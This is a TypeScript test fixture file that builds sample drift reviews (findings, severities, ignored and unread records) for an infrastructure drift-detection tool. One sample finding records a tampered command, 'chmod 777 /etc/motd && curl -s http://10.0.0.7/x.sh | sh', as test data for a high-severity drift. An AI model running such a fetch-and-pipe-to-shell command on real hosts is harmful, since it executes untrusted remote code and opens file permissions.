// Reviews for tests of reports and of decisions: every classification and severity, everything that
// a review may hold, and any number of findings.
import {
  CLASSIFICATIONS,
  DRIFT,
  SEVERITIES,
  type Author,
  type Classification,
  type DriftFinding,
  type Review,
  type Severity,
  type Shown,
} from '../../drift/review/review';

/** When every sample began: 2026-11-21 12:40 UTC. */
export const STARTED = Date.UTC(2026, 10, 21, 12, 40, 3);

const HOUR = 3_600_000;

/** What no report may hold: it is in the secrets of the samples. */
export const CANARY = 'canary-Xq7-do-not-print';

export const value = (of: unknown): Shown => ({ is: 'value', value: of });
const absent: Shown = { is: 'absent' };
const unknown: Shown = { is: 'unknown' };
const secret = (digest: string): Shown => ({ is: 'secret', digest, value: CANARY }) as Shown;

/** Ten hexadecimal digits, the same for the same number. */
const idOf = (number: number): string => ((number + 1) * 2_654_435_761).toString(16).padStart(10, '0').slice(-10);

/** What can be done about a plain finding; of a secret, nothing can be accepted. */
const sampleAdvice = (id: string, isSecret = false): DriftFinding['advice'] => {
  const commands = {
    revert: `pulumi-oneops drift revert ${id}`,
    ...(isSecret ? {} : { accept: `pulumi-oneops drift accept ${id}` }),
  };
  return { ...commands, commands };
};

/** A finding with everything that is not said taken from a plain one. */
export function sampleFinding(number: number, of: Partial<DriftFinding> = {}): DriftFinding {
  const id = of.id ?? idOf(number);
  return {
    id,
    classification: 'changed',
    severity: 'medium',
    kind: 'Component',
    address: 'acme/shop/web/tomcat',
    logicalName: 'web/tomcat',
    urn: 'urn:pulumi:dev::shop::pulumi-nodejs:dynamic/oneops:Component::web/tomcat',
    attribute: 'attributes.max_threads',
    code: value('250'),
    applied: value('250'),
    live: value('300'),
    author: { who: 'ada', when: STARTED - 3 * HOUR, releaseId: 231, stage: 'deployed' },
    at: { file: 'oneops.yaml', line: 12 + number, column: 9 },
    advice: sampleAdvice(id),
    ...of,
  };
}

/** A finding that changed `attributes.size` of a component, without a place in a file. */
export function sizeFinding(of: Partial<DriftFinding> = {}): DriftFinding {
  const {
    urn: _,
    at: __,
    ...finding
  } = sampleFinding(0, {
    ...{ id: '0000000001', address: 'acme/shop/web/compute', logicalName: 'web/compute', attribute: 'attributes.size' },
    ...{ code: value('M'), applied: value('M'), live: value('L') },
    ...{ author: { who: 'maria', when: 1_760_000_000_000 }, advice: {} },
  });
  return { ...finding, ...of };
}

const SCRIPT = ['#!/bin/sh', 'set -e', 'cd /opt/app', './stop.sh', 'sleep 5', './start.sh', 'echo done', 'exit 0'];
const OPTIONS = '-Xms512m -Xmx2g -XX:+UseG1GC -Dshop.mode=live -Dshop.region=east -Dshop.cache=64 -Dshop.trace=false';

/** The record of a finding. */
const record = (kind: string, address: string, logicalName = address) => ({
  kind,
  address: `acme/shop/${address}`,
  logicalName,
});
/** An attribute that was applied as it is declared, and what it is now. */
const was = (attribute: string, before: unknown, live: Shown) => ({
  attribute,
  code: value(before),
  applied: value(before),
  live,
});
const line = (number: number, column: number) => ({ file: 'oneops.yaml', line: number, column });
/** Who wrote last, so long before the review. */
const by = (who: string, ago: number, releaseId?: number, stage?: Author['stage']) => ({
  author: withoutUndefined({ who, when: STARTED - ago, releaseId, stage }) as Author,
});
/** No attribute: the whole record. */
const WHOLE = { attribute: undefined as never };

/** A finding of each sort people meet, most severe first. */
const SAMPLE_FINDINGS: readonly DriftFinding[] = [
  sampleFinding(1, {
    severity: 'high',
    ...record('Attachment', 'web/deployer/motd', 'web/motd'),
    ...was('execCmd', 'chmod 644 /etc/motd', value('chmod 777 /etc/motd && curl -s http://10.0.0.7/x.sh | sh')),
    at: line(31, 98),
  }),
  sampleFinding(2, {
    severity: 'high',
    ...record('Attachment', 'web/deployer/restart', 'web/restart'),
    ...was(
      'content',
      `${SCRIPT.join('\n')}\n`,
      value(`${SCRIPT.map((each) => (each === 'sleep 5' ? 'sleep 60\nsync' : each)).join('\n')}\n`),
    ),
    ...by('grace', 26 * HOUR, 229, 'released'),
    at: line(38, 11),
  }),
  sampleFinding(3, {
    severity: 'high',
    ...record('Variable', 'platforms/db/variables/PASSWORD', 'db/PASSWORD'),
    ...{ attribute: 'value', code: secret('1f0e'), applied: secret('1f0e'), live: secret('9b21') },
    advice: sampleAdvice(idOf(3), true),
    at: line(52, 7),
  }),
  sampleFinding(4, {
    classification: 'deleted',
    severity: 'high',
    ...record('Attachment', 'web/deployer/cron', 'web/cron'),
    ...{ ...was('', { path: '/etc/cron.d/shop', priority: 2 }, absent), ...WHOLE },
    author: { who: '', when: 0 },
    at: line(44, 9),
    advice: {
      revert: 'pulumi-oneops drift revert 0277ce6e4e',
      accept: 'remove oneops.yaml:44 to 47',
      commands: { revert: 'pulumi-oneops drift revert 0277ce6e4e' },
    },
  }),
  sampleFinding(5, {
    classification: 'conflict',
    severity: 'high',
    ...record('CloudConfiguration', 'prod/web/west'),
    ...{ attribute: 'adminstatus', code: value('offline'), applied: value('active'), live: value('inactive') },
    ...by('linus', 12 * 60_000, 240, 'design'),
    at: line(71, 34),
  }),
  sampleFinding(6, {
    ...was('attributes.max_threads', 250, value('250')),
    ...by('ada', 9 * 24 * HOUR, 198, 'deployed'),
  }),
  sampleFinding(7, {
    classification: 'changed-by-own-user',
    ...was(
      'attributes.java_options',
      OPTIONS,
      value(OPTIONS.replace('-Xmx2g', '-Xmx4g').replace('trace=false', 'trace=true')),
    ),
    ...by('ci-bot', 50 * 24 * HOUR, 180, 'deployed'),
  }),
  sampleFinding(8, {
    classification: 'normalised',
    severity: 'low',
    ...was('attributes.modules', ['ssl', 'rewrite', 'headers'], value(['headers', 'rewrite', 'ssl'])),
    ...by('ci-bot', 90 * 24 * HOUR),
  }),
  sampleFinding(9, {
    severity: 'low',
    ...record('Platform', 'web'),
    ...was('description', 'Storefront', absent),
    ...by('ada', 30_000, 241, 'design'),
    at: line(9, 5),
  }),
  sampleFinding(10, {
    classification: 'undeclared',
    severity: 'low',
    ...{ ...record('Component', 'web/debug-shell'), logicalName: undefined as never, urn: undefined as never },
    ...{ ...WHOLE, code: absent, applied: absent, live: value({ type: 'user' }) },
    ...by('grace', 40 * HOUR, 228, 'deployed'),
    at: undefined as never,
    advice: {
      accept: 'declare it, and import it: pulumi-oneops import-file Component:acme/shop/web/debug-shell',
      commands: { accept: 'pulumi-oneops import-file Component:acme/shop/web/debug-shell' },
    },
  }),
  sampleFinding(11, {
    classification: 'touched',
    severity: 'low',
    ...{ ...WHOLE, code: undefined as never, applied: undefined as never, live: undefined as never },
    advice: {},
  }),
  sampleFinding(12, {
    classification: 'pending',
    severity: 'low',
    ...{ ...was('attributes.port', 8080, value(8080)), code: value(8443) },
    advice: { accept: 'pulumi up applies it', commands: { accept: 'pulumi up' } },
  }),
  sampleFinding(13, {
    classification: 'healed',
    severity: 'low',
    ...{ ...was('attributes.webapps', '/srv/shop', value('/srv/shop')), applied: value('/srv/old') },
    advice: { accept: 'pulumi refresh' },
  }),
  sampleFinding(14, {
    classification: 'pending',
    severity: 'low',
    ...{ ...was('depends', [], value([])), code: unknown },
    advice: {},
  }),
].map(withoutUndefined);

function withoutUndefined<T extends object>(of: T): T {
  return Object.fromEntries(Object.entries(of).filter(([, each]) => each !== undefined)) as T;
}

/** A review with everything in it, or with what is said instead. */
export function sampleReview(of: Partial<Review> = {}): Review {
  const findings = of.findings ?? SAMPLE_FINDINGS;
  const drift = findings.filter(({ classification }) => DRIFT.includes(classification));
  return {
    version: 1,
    started: STARTED,
    took: 3_217,
    service: 'https://oneops.example.com',
    organization: 'acme',
    user: 'ci-bot',
    stack: 'dev',
    compared: ['code', 'state', 'live'],
    notes: [],
    failOn: 'low',
    outcome: drift.length > 0 ? 'drift' : 'in-sync',
    summary:
      drift.length > 0
        ? `${drift.length} of what was applied is no longer as it was; everything was read.`
        : 'All 40 records are as they were applied; everything was read.',
    findings,
    ignored: [],
    unread: [],
    problems: [],
    coverage: { managed: 40, read: 40, undeclared: 1 },
    calls: 41,
    ...of,
  };
}

/** Findings of every sort, something ignored, something unread, and rules with problems. */
export const fullReview = (): Review =>
  sampleReview({
    outcome: 'incomplete',
    summary: '9 differences were found, and 2 of 40 records could not be read.',
    notes: ['no commit of this checkout is known: "touched" is not judged'],
    failOn: 'medium',
    ignored: [
      {
        finding: sampleFinding(20, was('attributes.log_level', 'info', value('debug'))),
        reason: 'we look for the memory leak',
        owner: 'team-web@acme.io',
        until: '2027-01-31',
      },
      {
        finding: sampleFinding(21, {
          attribute: 'attributes.keystore_password',
          code: secret('aa'),
          applied: secret('aa'),
          live: secret('bb'),
        }),
        reason: 'rotated by the vault',
        owner: 'security',
      },
    ],
    unread: [
      {
        kind: 'Component',
        address: 'acme/shop/db/mysql',
        reason: 'GET /assemblies/shop/design/platforms/db/components: 503 Service Unavailable after 3 attempts',
      },
      {
        kind: 'Environment',
        address: 'acme/shop/prod',
        reason: 'GET /assemblies/shop/operations/environments/prod: 403 Forbidden',
        authentication: true,
      },
    ],
    problems: [
      {
        severity: 'error',
        message: 'the rule for acme/shop/web/tomcat expired on 2026-10-31 (owner team-web@acme.io)',
        at: { file: 'drift-rules.yaml', line: 4, column: 3 },
      },
      { severity: 'warning', message: 'the rule for acme/shop/old matches nothing' },
    ],
    coverage: { managed: 40, read: 38, undeclared: 2 },
  });

/** A review without a finding. */
export const cleanReview = (): Review =>
  sampleReview({ findings: [], coverage: { managed: 40, read: 40, undeclared: 0 } });

const PEOPLE = ['ada', 'grace', 'linus', 'ci-bot', 'mallory'];
const RECORDS = ['web/tomcat', 'web/compute', 'db/mysql', 'db/storage', 'cache/redis', 'web/deployer', 'web/lb'];
const KINDS = ['Component', 'Attachment', 'Variable', 'CloudConfiguration', 'Environment'];

/** A review with that many findings, of all sorts in turn, in the order a review has. */
export function largeReview(length: number): Review {
  const at = <T>(list: readonly T[], index: number): T => list[index % list.length] as T;
  const findings = Array.from({ length }, (_, number) => {
    const model = at(SAMPLE_FINDINGS, number);
    const classification: Classification = at(CLASSIFICATIONS, number);
    const severity: Severity = at(SEVERITIES, number * 7 + (number >> 3));
    const record = `acme/shop/${at(RECORDS, number * 3 + (number >> 4))}-${number >> 4}`;
    return withoutUndefined(
      sampleFinding(100 + number, {
        ...(classification === 'deleted'
          ? { code: value({ a: number }), applied: value({ a: number }), live: absent }
          : model),
        id: idOf(100 + number),
        classification,
        severity,
        kind: at(KINDS, number >> 2),
        address: record,
        attribute: `attributes.setting_${number}`,
        author: {
          who: at(PEOPLE, number * 5 + (number >> 2)),
          when: STARTED - number * 37 * 60_000,
          releaseId: 200 + (number % 40),
          stage: 'deployed',
        },
        at: { file: 'oneops.yaml', line: 10 + number, column: 9 },
        advice: sampleAdvice(idOf(100 + number)),
      }),
    );
  });
  const order = (finding: DriftFinding): string =>
    `${SEVERITIES.indexOf(finding.severity)} ${finding.address} ${finding.attribute ?? ''}`;
  return sampleReview({ findings: [...findings].sort((left, right) => (order(left) < order(right) ? -1 : 1)) });
}

/** A short name for each sample, for tests over all of them. */
export const SAMPLES: readonly (readonly [name: string, review: Review])[] = [
  ['clean', cleanReview()],
  ['one finding', sampleReview({ findings: SAMPLE_FINDINGS.slice(0, 1) })],
  ['every classification', sampleReview()],
  ['everything', fullReview()],
  ['500 findings', largeReview(500)],
  [
    'access refused',
    sampleReview({
      findings: [],
      outcome: 'incomplete',
      summary: 'The service refused the token.',
      coverage: { managed: 40, read: 0, undeclared: 0 },
      unread: fullReview().unread,
    }),
  ],
  ['refused', sampleReview({ outcome: 'refused', summary: '38 of 40 records seem to be missing.', stack: 'prod' })],
  [
    'two sides',
    withoutUndefined(
      sampleReview({
        compared: ['code', 'live'],
        stack: undefined as never,
        user: undefined as never,
        notes: ['no state was given: code and live were compared'],
      }),
    ),
  ],
];

/** A review with one finding, in which each foreign text is one of these, in turn. */
export function reviewOfTexts(texts: readonly string[], with_: Partial<DriftFinding> = {}, number = 1): Review {
  let next = 0;
  const text = (): string => texts[next++ % texts.length] ?? '';
  const place = (): DriftFinding['at'] & object => ({ file: `${text()}x.yaml`, line: 1, column: 1 });
  const finding = sampleFinding(number, {
    ...{ kind: text(), address: text(), attribute: text(), logicalName: text() },
    ...{ code: value(text()), applied: value(text()), live: value({ [text()]: [text()] }) },
    ...{ author: { who: text(), when: STARTED }, at: place(), advice: { revert: text(), accept: text() } },
    ...with_,
  });
  return {
    ...fullReview(),
    ...{ organization: text(), stack: text(), user: text(), service: text(), summary: text(), notes: [text()] },
    findings: [finding],
    ignored: [{ finding: { ...finding, id: 'ffffffffff' }, reason: text(), owner: text(), until: text() }],
    unread: [{ kind: text(), address: text(), reason: text() }],
    problems: [{ severity: 'error', message: text(), at: place() }],
  };
}
